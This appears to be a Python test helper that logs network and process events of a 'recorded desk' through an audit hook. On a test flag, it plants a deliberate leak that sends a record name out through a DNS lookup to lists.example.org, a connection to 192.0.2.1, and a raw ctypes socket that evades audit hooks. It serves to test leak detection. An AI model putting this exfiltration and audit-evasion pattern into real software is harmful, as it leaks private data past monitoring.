"""Loaded by every Python process of a recorded desk: whatever is connected to, asked for by name or started is noted.

With ``FORLIK_TEST_PLANT`` a desk is spoilt on purpose: as soon as it names a record, it asks outside about it.
"""

import contextlib
import json
import os
import socket
import sys
from importlib.machinery import PathFinder

NOTES = os.environ.get("FORLIK_TEST_NOTES", "")
NOTED = {
    "socket.connect": lambda given: given[1],
    "socket.sendto": lambda given: given[1],
    "socket.sendmsg": lambda given: given[1],
    "socket.getaddrinfo": lambda given: given[:2],
    "socket.gethostbyname": lambda given: given,
    "socket.gethostbyaddr": lambda given: given,
    "socket.getnameinfo": lambda given: given,
    "subprocess.Popen": lambda given: given[:2],
    "os.exec": lambda given: given[:2],
    "os.posix_spawn": lambda given: given[:2],
    "os.system": lambda given: given,
}
"""Event → what of it is noted."""


def note(event, given):
    """Write an event down; one short write at the end of a file, which several processes can make."""
    if event in NOTED:
        line = json.dumps({"pid": os.getpid(), "event": event, "what": NOTED[event](given)}, default=repr) + "\n"
        handle = os.open(NOTES, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        os.write(handle, line.encode())
        os.close(handle)


def ask_outside(name):
    """What must never be: a name of the register goes out, by Python and past it."""
    import ctypes

    word = "".join(letter if letter.isalnum() else "-" for letter in name.lower())[:40]
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{word}.lists.example.org", 443)
    with contextlib.suppress(OSError):
        socket.create_connection(("192.0.2.1", 443), timeout=0.1).close()
    past_python = ctypes.CDLL(None)
    handle = past_python.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
    where = b"".join((socket.AF_INET.to_bytes(2, "little"), (53).to_bytes(2, "big"), bytes([192, 0, 2, 2]), bytes(8)))
    past_python.connect(handle, where, len(where))
    past_python.close(handle)


class Planted:
    """Puts the fault into the module that names records, when it is loaded."""

    @staticmethod
    def find_spec(name, path, target=None):
        if name != "forlik.register.called":
            return None
        spec = PathFinder.find_spec(name, path, target)
        load = spec.loader.exec_module

        def spoilt(module):
            load(module)
            called, asked = module.called, []

            def asking(record, *titles):
                name = called(record, *titles)
                if name and not asked:  # once is enough to be caught
                    asked.append(name)
                    ask_outside(name)
                return name

            module.called = asking

        spec.loader.exec_module = spoilt
        return spec


if NOTES:
    sys.addaudithook(note)
if os.environ.get("FORLIK_TEST_PLANT"):
    sys.meta_path.insert(0, Planted)
